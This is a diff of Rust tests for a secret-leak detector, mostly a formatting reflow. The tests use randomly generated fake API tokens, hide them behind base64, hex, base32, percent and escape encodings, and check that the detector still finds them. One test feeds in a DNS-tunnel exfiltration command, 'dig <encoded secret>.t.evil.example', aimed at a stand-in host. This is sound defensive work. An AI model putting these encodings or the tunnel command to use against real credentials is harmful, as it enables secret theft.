@@ -4,10 +4,7 @@ mod property;
 
 use base64::{Engine as _, engine::general_purpose as base64_engine};
 
-use super::{
-    secrets::sample::Random,
-    *,
-};
+use super::{secrets::sample::Random, *};
 
 pub(super) fn inspector() -> Inspector {
     Inspector::new(Options::default()).unwrap()
@@ -18,23 +15,43 @@ pub(super) fn secrets(seed: u64) -> Vec<(&'static str, String)> {
     let mut random = Random(seed);
     vec![
         ("github-token", random.sample("ghp_<crc:30>")),
-        ("openai-key", random.sample("sk-proj-<url:74>T3BlbkFJ<url:74>")),
+        (
+            "openai-key",
+            random.sample("sk-proj-<url:74>T3BlbkFJ<url:74>"),
+        ),
         ("aws-access-key", random.sample("AKIA<b32:16>")),
         ("sendgrid-key", random.sample("SG.<url:22>.<url:43>")),
-        ("slack-token", random.sample("xoxb-<dig:12>-<dig:12>-<an:24>")),
+        (
+            "slack-token",
+            random.sample("xoxb-<dig:12>-<dig:12>-<an:24>"),
+        ),
     ]
 }
 
 /// One way to write a text so that it does not show.
 pub(super) const CODINGS: &[(&str, fn(&str) -> String)] = &[
     ("base64", |text| base64_engine::STANDARD.encode(text)),
-    ("base64, not padded", |text| base64_engine::STANDARD_NO_PAD.encode(text)),
-    ("base64 for URLs", |text| base64_engine::URL_SAFE.encode(text)),
-    ("base64 for URLs, not padded", |text| base64_engine::URL_SAFE_NO_PAD.encode(text)),
-    ("hexadecimal", |text| data_encoding::HEXLOWER.encode(text.as_bytes())),
-    ("HEXADECIMAL", |text| data_encoding::HEXUPPER.encode(text.as_bytes())),
-    ("base32", |text| data_encoding::BASE32.encode(text.as_bytes())),
-    ("percent", |text| text.bytes().map(|byte| format!("%{byte:02x}")).collect()),
+    ("base64, not padded", |text| {
+        base64_engine::STANDARD_NO_PAD.encode(text)
+    }),
+    ("base64 for URLs", |text| {
+        base64_engine::URL_SAFE.encode(text)
+    }),
+    ("base64 for URLs, not padded", |text| {
+        base64_engine::URL_SAFE_NO_PAD.encode(text)
+    }),
+    ("hexadecimal", |text| {
+        data_encoding::HEXLOWER.encode(text.as_bytes())
+    }),
+    ("HEXADECIMAL", |text| {
+        data_encoding::HEXUPPER.encode(text.as_bytes())
+    }),
+    ("base32", |text| {
+        data_encoding::BASE32.encode(text.as_bytes())
+    }),
+    ("percent", |text| {
+        text.bytes().map(|byte| format!("%{byte:02x}")).collect()
+    }),
     ("colons", |text| pairs(text, ":", "")),
     ("blanks", |text| pairs(text, " ", "")),
     ("escapes", |text| pairs(text, "", r"\x")),
@@ -42,14 +59,20 @@ pub(super) const CODINGS: &[(&str, fn(&str) -> String)] = &[
 ];
 
 fn pairs(text: &str, between: &str, before: &str) -> String {
-    let pairs: Vec<String> = text.bytes().map(|byte| format!("{before}{byte:02x}")).collect();
+    let pairs: Vec<String> = text
+        .bytes()
+        .map(|byte| format!("{before}{byte:02x}"))
+        .collect();
     pairs.join(between)
 }
 
 #[track_caller]
 fn check(inspector: &Inspector, text: &str, detector: &str) -> Finding {
     let report = inspector.inspect(text.as_bytes());
-    let found = report.findings.iter().find(|finding| finding.detector == detector);
+    let found = report
+        .findings
+        .iter()
+        .find(|finding| finding.detector == detector);
     let Some(found) = found else {
         panic!("{detector} is not found in {text}: {report:?}");
     };
@@ -90,7 +113,10 @@ fn every_coding_is_undone_and_every_chain_of_four() {
                 text = coding(&text);
             }
             let report = inspector.inspect(format!("payload {text} end").as_bytes());
-            let is_found = report.findings.iter().any(|finding| finding.detector == detector);
+            let is_found = report
+                .findings
+                .iter()
+                .any(|finding| finding.detector == detector);
             assert!(is_found, "{detector} behind {names:?}: {text}");
         }
     }
@@ -105,7 +131,10 @@ fn what_lies_deeper_is_told() {
         text = base64_engine::STANDARD.encode(text);
         let report = inspector.inspect(text.as_bytes());
         assert_eq!(report.is_complete, depth <= 4, "depth {depth}");
-        let is_found = report.findings.iter().any(|found| found.detector == "github-token");
+        let is_found = report
+            .findings
+            .iter()
+            .any(|found| found.detector == "github-token");
         assert_eq!(is_found, depth <= 4, "depth {depth}");
     }
     assert!(inspector.inspect(b"").is_complete);
@@ -135,9 +164,15 @@ fn secrets_cut_in_pieces_are_joined() {
     assert_eq!(finding.view, View::Query);
     assert_eq!(query[finding.range.clone()], format!("{first}&b={second}"));
     // Base32 in the labels of a host, as tunnels write it.
-    let coded = data_encoding::BASE32_NOPAD.encode(secret.as_bytes()).to_ascii_lowercase();
+    let coded = data_encoding::BASE32_NOPAD
+        .encode(secret.as_bytes())
+        .to_ascii_lowercase();
     let (first, second) = coded.split_at(30);
-    check(&inspector, &format!("dig {first}.{second}.t.evil.example"), "github-token");
+    check(
+        &inspector,
+        &format!("dig {first}.{second}.t.evil.example"),
+        "github-token",
+    );
     let (first, second) = secret.split_at(9);
     let json = serde_json::json!({ "a": first, "b": { "c": [second, 7] } }).to_string();
     let report = inspector.inspect_json(json.as_bytes());
@@ -170,10 +205,17 @@ fn letters_in_disguise_are_folded() {
 fn json_is_read_string_by_string() {
     let inspector = inspector();
     let secret = Random(8).sample("ghp_<crc:30>");
-    let escaped: String = secret.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
+    let escaped: String = secret
+        .bytes()
+        .map(|byte| format!("\\u{byte:04x}"))
+        .collect();
     let json = format!(r#"{{"note": "a\n{escaped}\n", "{secret}": 1}}"#);
     let report = inspector.inspect_json(json.as_bytes());
-    let ranges: Vec<&str> = report.findings.iter().map(|finding| &json[finding.range.clone()]).collect();
+    let ranges: Vec<&str> = report
+        .findings
+        .iter()
+        .map(|finding| &json[finding.range.clone()])
+        .collect();
     assert_eq!(ranges, [escaped.as_str(), secret.as_str()]);
     let coded = base64_engine::STANDARD.encode(format!("{{\"k\": \"{secret}\"}}"));
     let json = serde_json::json!({ "body": format!("{}\n{}", &coded[..40], &coded[40..]) });
@@ -185,7 +227,10 @@ fn json_is_read_string_by_string() {
 fn known_values_are_found_in_every_view() {
     let mut random = Random(9);
     let value = random.sample("<an:20>");
-    let named = |name: &str, value: &str| Named { name: name.to_owned(), value: value.to_owned() };
+    let named = |name: &str, value: &str| Named {
+        name: name.to_owned(),
+        value: value.to_owned(),
+    };
     let inspector = Inspector::new(Options {
         environment: vec![named("DEPLOY", &value)],
         secrets: known::parse_secrets(&format!("# file\nA={}\n", random.sample("<an:24>"))),
@@ -196,21 +241,46 @@ fn known_values_are_found_in_every_view() {
     })
     .unwrap();
     for (_, coding) in CODINGS {
-        check(&inspector, &format!("v={}!", coding(&format!("it is {value}"))), "known-environment-value");
+        check(
+            &inspector,
+            &format!("v={}!", coding(&format!("it is {value}"))),
+            "known-environment-value",
+        );
     }
     check(&inspector, "see CANARY-7F3A", "canary-token");
-    check(&inspector, "about project halcyon.", "organisation-fingerprint");
-    let finding = check(&inspector, "GET http://db.Int.example.com/", "internal-domain");
+    check(
+        &inspector,
+        "about project halcyon.",
+        "organisation-fingerprint",
+    );
+    let finding = check(
+        &inspector,
+        "GET http://db.Int.example.com/",
+        "internal-domain",
+    );
     assert_eq!(finding.range, 11..29);
-    for text in ["print.example.com", "int.example.com.au", "int.example.community"] {
-        assert!(inspector.inspect(text.as_bytes()).findings.is_empty(), "{text}");
+    for text in [
+        "print.example.com",
+        "int.example.com.au",
+        "int.example.community",
+    ] {
+        assert!(
+            inspector.inspect(text.as_bytes()).findings.is_empty(),
+            "{text}"
+        );
     }
-    assert!(!format!("{inspector:?}").contains(&value), "values must not be shown");
+    assert!(
+        !format!("{inspector:?}").contains(&value),
+        "values must not be shown"
+    );
 }
 
 #[test]
 fn what_cannot_be_looked_for_is_refused_with_all_reasons() {
-    let named = |name: &str, value: &str| Named { name: name.to_owned(), value: value.to_owned() };
+    let named = |name: &str, value: &str| Named {
+        name: name.to_owned(),
+        value: value.to_owned(),
+    };
     let error = Inspector::new(Options {
         disabled: vec!["github-tokens".to_owned()],
         environment: vec![named("A", "short"), named("B", &"ab".repeat(10))],
@@ -232,8 +302,18 @@ fn what_cannot_be_looked_for_is_refused_with_all_reasons() {
 #[test]
 fn a_secrets_file_has_names_or_none() {
     let named = known::parse_secrets("# c\n\nexport A_B=\"one two\"\n  c2VjcmV0cw==\nx-y=1\n");
-    let pairs: Vec<(&str, &str)> = named.iter().map(|n| (n.name.as_str(), n.value.as_str())).collect();
-    assert_eq!(pairs, [("A_B", "one two"), ("line 4", "c2VjcmV0cw=="), ("line 5", "x-y=1")]);
+    let pairs: Vec<(&str, &str)> = named
+        .iter()
+        .map(|n| (n.name.as_str(), n.value.as_str()))
+        .collect();
+    assert_eq!(
+        pairs,
+        [
+            ("A_B", "one two"),
+            ("line 4", "c2VjcmV0cw=="),
+            ("line 5", "x-y=1")
+        ]
+    );
 }
 
 #[test]
